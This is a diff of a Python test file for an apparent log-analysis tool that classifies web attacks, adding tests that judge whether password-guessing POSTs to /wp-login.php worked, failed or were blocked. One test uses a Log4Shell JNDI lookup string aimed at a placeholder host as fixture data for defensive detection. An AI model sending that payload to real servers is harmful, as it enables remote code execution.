@@ -262,6 +262,30 @@ def test_a_large_page_for_a_scanner_by_name_alone_proves_nothing() -> None:
     assert of_attacks(rows) == ["unknown"]
 
 
+def passwords(statuses: Sequence[int], target: str = "/wp-login.php", **given: Any) -> list[dict[str, Any]]:
+    return [attack(target, s, kind=Attack.SCANNER, method="POST", **given) for s in statuses]
+
+
+@pytest.mark.parametrize(
+    ("wrong", "right"),
+    [(200, 302), (401, 200), (401, 204), (302, 200), (200, 303)],
+)
+def test_of_passwords_sent_by_a_tool_the_one_answered_otherwise_worked(wrong: int, right: int) -> None:
+    rows = passwords([wrong] * 20 + [right] + [wrong] * 9)
+    assert of_attacks(rows) == ["missed"] * 20 + ["worked"] + ["missed"] * 9
+    # Cut into batches, what came first is told by what was known then.
+    baselines = Baselines()
+    assert of_attacks(rows[:20], baselines) == ["missed"] * 20
+    assert of_attacks(rows[20:], baselines) == ["worked"] + ["missed"] * 9
+
+
+def test_few_passwords_and_answers_of_all_kinds_tell_nothing() -> None:
+    assert of_attacks(passwords([200] * 3)) == ["unknown"] * 3
+    assert of_attacks(passwords([200, 302] * 10)) == ["unknown"] * 20
+    assert of_attacks(passwords([403, 429, 401])) == ["blocked", "blocked", "missed"]
+    assert of_attacks(passwords([302] * 20, "/contact")) == ["missed"] * 20
+
+
 def test_what_no_answer_shows_is_unknown() -> None:
     header = attack("/", 200, 1000, Attack.LOG4SHELL, user_agent="${jndi:ldap://a.example/x}")
     assert of_attacks([*visits("/", [1000] * 8), header]) == ["unknown"]
